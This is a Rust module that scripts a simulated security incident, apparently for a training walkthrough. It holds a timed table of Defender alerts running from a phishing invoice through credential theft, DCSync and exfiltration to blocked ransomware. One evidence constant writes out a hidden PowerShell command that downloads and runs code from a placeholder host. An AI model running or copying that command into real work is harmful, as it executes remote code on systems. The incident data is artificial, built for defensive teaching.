//! What happens in the guided first incident, as one table: an invoice that is none, a foothold, stolen passwords,
//! a way to the domain controller, mail sent on to the attacker, data taken, and encryption stopped at the last moment.
//!
//! The shape is that of the walkthrough's worked example: 7 devices, 6 users, 2 mailboxes, 87 alerts.

use super::cast::Cast;
use Cast::{App, Device, Domain, File, Ip, Mail, Mailbox, Process, Registry, Url, User};

/// Alerts of one kind: one alert for each group of evidence.
#[derive(Debug, Clone, Copy)]
pub struct Beat {
    /// Minutes after the story began at which the first of these alerts happened.
    pub minute: i64,
    /// Minutes between one alert and the next.
    pub every: i64,
    /// The alerts' title.
    pub title: &'static str,
    /// What the product says about it.
    pub description: &'static str,
    /// Kill-chain category.
    pub category: &'static str,
    /// ATT&CK techniques.
    pub techniques: &'static [&'static str],
    /// `high`, `medium`, `low` or `informational`.
    pub severity: &'static str,
    /// The product that raised it, as the Graph API writes it.
    pub source: &'static str,
    /// What the automated investigation came to.
    pub investigation: &'static str,
    /// What the evidence was found to be.
    pub verdict: &'static str,
    /// What was done about the evidence.
    pub remediation: &'static str,
    /// The evidence of each alert.
    pub evidence: &'static [&'static [Cast]],
}

const ENDPOINT: &str = "microsoftDefenderForEndpoint";
const OFFICE: &str = "microsoftDefenderForOffice365";
const IDENTITY: &str = "microsoftDefenderForIdentity";
const ENTRA: &str = "azureAdIdentityProtection";
const CLOUD_APPS: &str = "microsoftDefenderForCloudApps";

const FIN14: Cast = Device("FIN-WS-014");
const FIN22: Cast = Device("FIN-WS-022");
const HR03: Cast = Device("HR-WS-003");
const IT01: Cast = Device("IT-WS-001");
const FILES: Cast = Device("SRV-FILE-01");
const APPS: Cast = Device("SRV-APP-02");
const DC: Cast = Device("SRV-DC-01");

const ANNA: Cast = User("anna.devries");
const MARK: Cast = User("mark.jansen");
const SADE: Cast = User("sade.okafor");
const LENA: Cast = User("lena.petrova");
const HUGO: Cast = User("hugo.lind");
const BACKUP: Cast = User("svc-backup");

const ANNA_MAIL: Cast = Mailbox("anna.devries");
const MARK_MAIL: Cast = Mailbox("mark.jansen");

const INVOICE: Cast = File("Invoice_88412.docm", "C:\\Users\\anna.devries\\Downloads");
const LOADER: Cast = File("updsvc.exe", "C:\\ProgramData\\UpdateService");
const DUMPER: Cast = File("lsdump64.exe", "C:\\Windows\\Temp");
const LOCKER: Cast = File("nwlock.exe", "C:\\ProgramData\\UpdateService");

const TOR: Cast = Ip("203.0.113.45", "NL");
const C2: Cast = Ip("198.51.100.23", "US");
const C2_NAME: Cast = Domain("cdn-update.example");
const LURE: Cast = Url("https://contoso-invoices.example/view?id=88412");
const DROP: Cast = Url("https://cdn-update.example/u/updsvc.bin");
const CONSENTED: Cast = App("Mail Sync Helper");
const RUN_KEY: Cast = Registry("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "UpdateService");

const CRADLE: Cast = Process(
    "FIN-WS-014",
    7212,
    "powershell.exe",
    "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://cdn-update.example/u/updsvc.bin')\"",
);
const MACRO: Cast = Process(
    "FIN-WS-014",
    6904,
    "winword.exe",
    "\"WINWORD.EXE\" /n \"C:\\Users\\anna.devries\\Downloads\\Invoice_88412.docm\"",
);

/// The story, in the order it happened.
pub const STORY: &[Beat] = &[
    Beat {
        minute: 0,
        every: 1,
        title: "Email messages containing malicious file removed after delivery",
        description: "Messages with a malicious attachment were delivered and taken out of mailboxes afterwards. One copy was moved by its reader before that.",
        category: "InitialAccess",
        techniques: &["T1566.001"],
        severity: "informational",
        source: OFFICE,
        investigation: "partiallyRemediated",
        verdict: "malicious",
        remediation: "remediated",
        evidence: &[
            &[Mail("mark.jansen"), MARK_MAIL, MARK, LURE],
            &[Mail("anna.devries"), ANNA_MAIL, ANNA, LURE],
        ],
    },
    Beat {
        minute: 6,
        every: 2,
        title: "A potentially malicious URL click was detected",
        description: "A person followed a link that was found to be malicious within two days of the click.",
        category: "InitialAccess",
        techniques: &["T1566.002"],
        severity: "high",
        source: OFFICE,
        investigation: "pendingApproval",
        verdict: "malicious",
        remediation: "pendingApproval",
        evidence: &[&[ANNA, ANNA_MAIL, LURE], &[ANNA, LURE]],
    },
    Beat {
        minute: 9,
        every: 1,
        title: "Suspicious behaviour by Microsoft Word was observed",
        description: "A document started a script interpreter, which documents have no reason to do.",
        category: "Execution",
        techniques: &["T1204.002", "T1059.001"],
        severity: "medium",
        source: ENDPOINT,
        investigation: "failed",
        verdict: "malicious",
        remediation: "active",
        evidence: &[&[FIN14, ANNA, MACRO, INVOICE], &[FIN14, ANNA, MACRO, CRADLE]],
    },
    Beat {
        minute: 10,
        every: 3,
        title: "Suspicious PowerShell command line",
        description: "PowerShell was started hidden and fetched code from the internet to run it in memory.",
        category: "Execution",
        techniques: &["T1059.001", "T1105"],
        severity: "medium",
        source: ENDPOINT,
        investigation: "failed",
        verdict: "suspicious",
        remediation: "active",
        evidence: &[
            &[FIN14, ANNA, CRADLE, DROP],
            &[FIN14, ANNA, CRADLE],
            &[FIN22, MARK, DROP],
            &[HR03, SADE, DROP],
            &[IT01, LENA, DROP],
            &[APPS, BACKUP, DROP],
            &[FILES, BACKUP, DROP],
        ],
    },
    Beat {
        minute: 13,
        every: 2,
        title: "An active 'Vesper' backdoor was detected",
        description: "A program known to give an attacker control over a device is running.",
        category: "Malware",
        techniques: &["T1543.003"],
        severity: "high",
        source: ENDPOINT,
        investigation: "failed",
        verdict: "malicious",
        remediation: "active",
        evidence: &[
            &[FIN14, LOADER],
            &[FIN22, LOADER],
            &[HR03, LOADER],
            &[APPS, LOADER],
            &[FILES, LOADER],
            &[IT01, LOADER],
        ],
    },
    Beat {
        minute: 14,
        every: 1,
        title: "Anomaly detected in ASEP registry",
        description: "A program was set to start with Windows, in a place that attackers like.",
        category: "Persistence",
        techniques: &["T1547.001"],
        severity: "medium",
        source: ENDPOINT,
        investigation: "unsupportedAlertType",
        verdict: "suspicious",
        remediation: "active",
        evidence: &[&[FIN14, RUN_KEY, LOADER], &[FIN22, RUN_KEY, LOADER], &[HR03, RUN_KEY, LOADER]],
    },
    Beat {
        minute: 16,
        every: 4,
        title: "Connection to a custom network indicator",
        description: "A device talked to an address that is used to control malware.",
        category: "CommandAndControl",
        techniques: &["T1071.001", "T1573"],
        severity: "medium",
        source: ENDPOINT,
        investigation: "unsupportedAlertType",
        verdict: "malicious",
        remediation: "none",
        evidence: &[
            &[FIN14, C2, C2_NAME],
            &[FIN14, C2],
            &[FIN22, C2, C2_NAME],
            &[FIN22, C2],
            &[HR03, C2, C2_NAME],
            &[IT01, C2],
            &[APPS, C2],
            &[FILES, C2],
        ],
    },
    Beat {
        minute: 22,
        every: 2,
        title: "Anonymous IP address sign-in",
        description: "Somebody signed in through the Tor network with a valid password.",
        category: "InitialAccess",
        techniques: &["T1078.004", "T1090.003"],
        severity: "medium",
        source: ENTRA,
        investigation: "unsupportedAlertType",
        verdict: "suspicious",
        remediation: "none",
        evidence: &[&[ANNA, TOR], &[ANNA, TOR], &[MARK, TOR], &[LENA, TOR]],
    },
    Beat {
        minute: 24,
        every: 3,
        title: "Atypical travel",
        description: "Two sign-ins lie further apart than anybody can travel in that time.",
        category: "InitialAccess",
        techniques: &["T1078.004"],
        severity: "low",
        source: ENTRA,
        investigation: "unsupportedAlertType",
        verdict: "suspicious",
        remediation: "none",
        evidence: &[&[ANNA, TOR], &[MARK, TOR], &[LENA, TOR]],
    },
    Beat {
        minute: 28,
        every: 2,
        title: "Suspicious discovery activity",
        description: "Commands that list users, groups and computers of the domain ran shortly after one another.",
        category: "Discovery",
        techniques: &["T1087.002", "T1069.002", "T1018"],
        severity: "low",
        source: ENDPOINT,
        investigation: "benign",
        verdict: "suspicious",
        remediation: "none",
        evidence: &[
            &[FIN14, ANNA],
            &[FIN14, ANNA],
            &[FIN22, MARK],
            &[HR03, SADE],
            &[IT01, LENA],
            &[APPS, BACKUP],
        ],
    },
    Beat {
        minute: 33,
        every: 1,
        title: "Security principal reconnaissance (LDAP)",
        description: "Somebody asked the domain controller about privileged groups in an unusual way.",
        category: "Discovery",
        techniques: &["T1087.002"],
        severity: "medium",
        source: IDENTITY,
        investigation: "unsupportedAlertType",
        verdict: "suspicious",
        remediation: "none",
        evidence: &[&[DC, FIN14, ANNA], &[DC, FIN22, MARK]],
    },
    Beat {
        minute: 38,
        every: 3,
        title: "Suspicious access to LSASS service",
        description: "A program read the memory in which Windows keeps passwords of those who are signed in.",
        category: "CredentialAccess",
        techniques: &["T1003.001"],
        severity: "high",
        source: ENDPOINT,
        investigation: "failed",
        verdict: "malicious",
        remediation: "unremediated",
        evidence: &[
            &[FIN14, DUMPER, ANNA],
            &[FIN22, DUMPER, MARK],
            &[IT01, DUMPER, LENA],
            &[APPS, DUMPER, BACKUP],
        ],
    },
    Beat {
        minute: 41,
        every: 2,
        title: "'LsDump' hacktool was detected",
        description: "A tool that takes passwords out of memory was found.",
        category: "CredentialAccess",
        techniques: &["T1003.001"],
        severity: "medium",
        source: ENDPOINT,
        investigation: "successfullyRemediated",
        verdict: "malicious",
        remediation: "prevented",
        evidence: &[&[HR03, DUMPER], &[FILES, DUMPER]],
    },
    Beat {
        minute: 47,
        every: 2,
        title: "Suspected identity theft (pass-the-hash)",
        description: "A stolen password hash was used to sign in from a device on which its owner was not.",
        category: "LateralMovement",
        techniques: &["T1550.002"],
        severity: "high",
        source: IDENTITY,
        investigation: "unsupportedAlertType",
        verdict: "malicious",
        remediation: "none",
        evidence: &[&[FIN14, IT01, LENA], &[IT01, APPS, BACKUP], &[APPS, DC, BACKUP]],
    },
    Beat {
        minute: 50,
        every: 2,
        title: "Suspicious remote activity",
        description: "A program was started on another device over the network.",
        category: "LateralMovement",
        techniques: &["T1021.002", "T1569.002"],
        severity: "medium",
        source: ENDPOINT,
        investigation: "pendingApproval",
        verdict: "suspicious",
        remediation: "pendingApproval",
        evidence: &[
            &[FIN14, FIN22, LENA],
            &[FIN14, HR03, LENA],
            &[IT01, APPS, LENA],
            &[APPS, FILES, BACKUP],
            &[APPS, DC, BACKUP],
            &[FILES, DC, BACKUP],
        ],
    },
    Beat {
        minute: 58,
        every: 1,
        title: "Suspected DCSync attack (replication of directory services)",
        description: "An account that is no domain controller asked for all passwords of the domain.",
        category: "CredentialAccess",
        techniques: &["T1003.006"],
        severity: "high",
        source: IDENTITY,
        investigation: "unsupportedAlertType",
        verdict: "malicious",
        remediation: "none",
        evidence: &[&[DC, APPS, BACKUP], &[DC, APPS, BACKUP]],
    },
    Beat {
        minute: 61,
        every: 3,
        title: "Suspicious inbox manipulation rule",
        description: "A new rule moves messages with words such as invoice or security out of sight.",
        category: "DefenseEvasion",
        techniques: &["T1564.008"],
        severity: "medium",
        source: CLOUD_APPS,
        investigation: "unsupportedAlertType",
        verdict: "malicious",
        remediation: "active",
        evidence: &[&[ANNA, ANNA_MAIL, TOR], &[MARK, MARK_MAIL, TOR]],
    },
    Beat {
        minute: 63,
        every: 2,
        title: "Suspicious inbox forwarding",
        description: "A rule sends a copy of every message to an address outside the organisation.",
        category: "Exfiltration",
        techniques: &["T1114.003"],
        severity: "medium",
        source: CLOUD_APPS,
        investigation: "unsupportedAlertType",
        verdict: "malicious",
        remediation: "active",
        evidence: &[&[ANNA, ANNA_MAIL], &[MARK, MARK_MAIL]],
    },
    Beat {
        minute: 66,
        every: 1,
        title: "Unusual addition of permissions to an OAuth app",
        description: "An application was given the right to read mail in the name of a person.",
        category: "Persistence",
        techniques: &["T1098.003", "T1528"],
        severity: "medium",
        source: CLOUD_APPS,
        investigation: "unsupportedAlertType",
        verdict: "suspicious",
        remediation: "none",
        evidence: &[&[ANNA, CONSENTED], &[HUGO, CONSENTED]],
    },
    Beat {
        minute: 72,
        every: 4,
        title: "Mass download",
        description: "Far more files than usual were downloaded within minutes.",
        category: "Collection",
        techniques: &["T1530", "T1213.002"],
        severity: "medium",
        source: CLOUD_APPS,
        investigation: "unsupportedAlertType",
        verdict: "suspicious",
        remediation: "none",
        evidence: &[&[ANNA, TOR], &[LENA, TOR], &[HUGO, TOR]],
    },
    Beat {
        minute: 80,
        every: 3,
        title: "Large outbound transfer to an unusual destination",
        description: "A device sent much more data out than it usually does, to an address it had not talked to before.",
        category: "Exfiltration",
        techniques: &["T1041", "T1048"],
        severity: "medium",
        source: ENDPOINT,
        investigation: "unsupportedAlertType",
        verdict: "malicious",
        remediation: "none",
        evidence: &[&[FILES, C2], &[FILES, C2], &[APPS, C2]],
    },
    Beat {
        minute: 92,
        every: 2,
        title: "Attempt to turn off Microsoft Defender Antivirus protection",
        description: "Settings of the antivirus were changed so that it would not look any more.",
        category: "DefenseEvasion",
        techniques: &["T1562.001"],
        severity: "medium",
        source: ENDPOINT,
        investigation: "unsupportedAlertType",
        verdict: "suspicious",
        remediation: "blocked",
        evidence: &[&[FILES, BACKUP], &[APPS, BACKUP], &[HR03, SADE], &[FIN22, MARK]],
    },
    Beat {
        minute: 97,
        every: 1,
        title: "File backups were deleted",
        description: "Shadow copies were removed, which leaves nothing to restore from on the device.",
        category: "Impact",
        techniques: &["T1490"],
        severity: "medium",
        source: ENDPOINT,
        investigation: "unsupportedAlertType",
        verdict: "malicious",
        remediation: "none",
        evidence: &[&[FILES, BACKUP], &[APPS, BACKUP]],
    },
    Beat {
        minute: 101,
        every: 1,
        title: "Ransomware behaviour detected in the file system",
        description: "Many files were renamed and rewritten within seconds. The program was stopped.",
        category: "Impact",
        techniques: &["T1486"],
        severity: "high",
        source: ENDPOINT,
        investigation: "partiallyRemediated",
        verdict: "malicious",
        remediation: "blocked",
        evidence: &[&[FILES, LOCKER, BACKUP], &[APPS, LOCKER, BACKUP], &[HR03, LOCKER, SADE]],
    },
    Beat {
        minute: 104,
        every: 1,
        title: "'NwLock' ransomware was prevented",
        description: "A program that encrypts files was stopped before it ran.",
        category: "Malware",
        techniques: &["T1486"],
        severity: "low",
        source: ENDPOINT,
        investigation: "successfullyRemediated",
        verdict: "malicious",
        remediation: "prevented",
        evidence: &[&[FIN14, LOCKER], &[FIN22, LOCKER], &[IT01, LOCKER], &[DC, LOCKER]],
    },
];
